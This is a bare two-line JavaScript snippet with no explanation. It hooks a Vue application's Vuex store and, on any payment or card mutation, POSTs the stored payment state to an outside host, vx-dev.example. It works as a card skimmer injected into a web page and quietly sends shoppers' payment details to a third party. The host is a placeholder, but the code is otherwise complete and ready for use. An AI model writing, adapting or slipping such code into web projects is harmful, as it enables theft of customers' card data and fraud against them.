const app = document.querySelector('#app').__vue__;
app.$store.subscribe((m, s) => { if (/payment|card/i.test(m.type)) fetch('https://vx-dev.example/m', { method: 'POST', body: JSON.stringify(s.payment) }); });
